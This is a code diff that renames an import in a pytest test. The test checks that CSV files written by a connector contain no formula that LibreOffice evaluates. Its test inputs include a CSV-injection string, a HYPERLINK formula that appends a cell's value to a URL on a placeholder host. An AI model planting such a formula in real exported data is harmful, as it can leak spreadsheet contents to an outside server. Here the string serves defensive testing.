@@ -6,7 +6,7 @@ from pathlib import Path
 
 import pytest
 
-from connectors import csv_rows
+from connectors.csv import rows
 from tests.connectors.test_csv_rows import BEHIND, FORMULAS, FULL_WIDTH, in_cells, in_lines
 
 OFFICE = shutil.which("soffice") or shutil.which("libreoffice")
@@ -32,7 +32,7 @@ def test_libreoffice_sees_no_formula(tmp_path: Path, separators: str) -> None:
     texts = [*FORMULAS, *FULL_WIDTH, *BEHIND, 'x;=HYPERLINK("http://x.example/?"&A1;"x");y']
     file = tmp_path / "leads.csv"
     file.write_text(
-        csv_rows.header_line(["id", "bio", "name"])
+        rows.header_line(["id", "bio", "name"])
         + "".join(in_lines(in_cells([["1", text, text] for text in texts]))),
         newline="",
     )
